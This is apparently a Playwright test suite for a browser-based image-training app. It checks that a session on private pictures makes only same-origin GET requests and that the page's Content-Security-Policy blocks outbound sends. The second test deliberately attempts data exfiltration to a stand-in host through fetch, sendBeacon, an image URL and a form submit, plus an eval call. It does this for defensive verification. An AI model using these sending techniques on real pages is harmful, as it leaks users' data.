/**
 * Nothing of the person's leaves the machine. Every request of the page and its workers is watched through a whole session on
 * private pictures: each is a plain GET of one of the page's own files. And where a script tried to send something, the
 * Content-Security-Policy would stop it.
 */
import { expect, test, type Request } from '@playwright/test'
import { existsSync } from 'node:fs'
import { join } from 'node:path'
import { zipSync } from 'fflate'
import { writeFileSync } from 'node:fs'
import { ImagesPage } from './images-page'
import { PassepartoutPage } from './page'
import { PortablePage } from './portable-page'
import { tinyTask } from './tiny-task'
import { TryPage } from './try-page'

const SECRET = 'zebrafish'

test('a whole session on private pictures asks for the page’s own files and sends nothing', async ({
  page,
  context,
  baseURL,
}, info) => {
  const requests: Request[] = []
  context.on('request', (request) => requests.push(request))
  const sockets: string[] = []
  page.on('websocket', (socket) => sockets.push(socket.url()))

  const view = new PassepartoutPage(page)
  await view.open({ backend: 'wasm' })
  // The classes, the paths and the template are secrets too.
  const files = tinyTask('counting', 3, { train: 8, val: 4, test: 4 }).map(
    ({ path, base64 }) =>
      [path.replace(/\/([^/]+)\//, `/${SECRET} $1/`), new Uint8Array(Buffer.from(base64, 'base64'))] as const,
  )
  const zip = info.outputPath(`${SECRET}.zip`)
  writeFileSync(zip, zipSync(Object.fromEntries(files)))
  await view.chooseZip(zip)
  await expect(page.getByTestId('class-row').first()).toContainText(SECRET)
  await view.waitReady()
  await view.setSteps(3)
  await view.start()
  await view.waitFinished(240_000)
  for (const key of ['2', '3', '4', '5', '1']) await page.locator('body').press(key)

  await test.step('a pasted picture, the run compared and as files, a class renamed', async () => {
    const trying = new TryPage(page)
    await trying.open()
    await trying.paste({ name: `${SECRET}.png`, base64: Buffer.from(files[0]![1]).toString('base64') })
    await expect(trying.answers).toContainText(SECRET, { timeout: 30_000 })
    await page.getByTestId('view-compare').click()
    await expect(page.getByTestId('compare-after')).toBeVisible()
    await page.getByTestId('view-runs').click()
    const portable = new PortablePage(page)
    await portable.openFiles(0)
    for (const kind of ['project', 'report.md']) await portable.take(kind)
    await page.keyboard.press('Escape')
    const images = new ImagesPage(page)
    await images.go()
    const [first] = await images.classes()
    await images.rename(first!, `my own ${SECRET}`)
    await expect(page.getByTestId('prompt').first()).toContainText(`my own ${SECRET}`)
    await images.goLearn()
    await view.waitReady()
  })

  const foreign = requests.filter((request) => !/^(data|blob):/.test(request.url()))
  expect(foreign.length).toBeGreaterThan(10)
  for (const request of foreign) {
    const url = new URL(request.url())
    expect(url.origin).toBe(new URL(baseURL!).origin)
    expect(request.method()).toBe('GET')
    expect(request.postData()).toBeNull()
    expect(decodeURIComponent(url.href)).not.toContain(SECRET)
    expect([...url.searchParams.keys()].filter((name) => name !== 'backend')).toEqual([])
    const file = url.pathname === '/' ? 'index.html' : url.pathname.slice(1)
    expect(existsSync(join('dist', file)), `${url.pathname} is a file of the page`).toBe(true)
  }
  expect(sockets).toEqual([])
})

test('the policy stops what would send, and text that would run', async ({ page }) => {
  const response = await page.goto('./?backend=wasm')
  expect(response!.headers()['content-security-policy']).toContain("default-src 'none'")
  const tried = await page.evaluate(async () => {
    // A driven browser lets the text it is given evaluate more; a task of its own is the page's again.
    await new Promise((resume) => setTimeout(resume))
    const blocked: string[] = []
    document.addEventListener('securitypolicyviolation', (event) => blocked.push(event.effectiveDirective))
    const fails = async (work: () => unknown) => {
      try {
        await work()
        return false
      } catch {
        return true
      }
    }
    const away = 'https://example.com/collect'
    const fetched = await fails(() => fetch(away, { method: 'POST', body: 'picture', mode: 'no-cors' }))
    const evaluated = await fails(() => (0, eval)('1'))
    navigator.sendBeacon(away, 'picture')
    const image = new Image()
    image.src = `${away}?picture`
    const form = document.createElement('form')
    form.action = away
    document.body.append(form)
    form.submit()
    await new Promise((resume) => setTimeout(resume, 500))
    return { fetched, evaluated, blocked: [...new Set(blocked)].sort() }
  })
  expect(tried.fetched).toBe(true)
  expect(tried.evaluated).toBe(true)
  expect(tried.blocked).toEqual(expect.arrayContaining(['connect-src', 'form-action', 'img-src']))
})
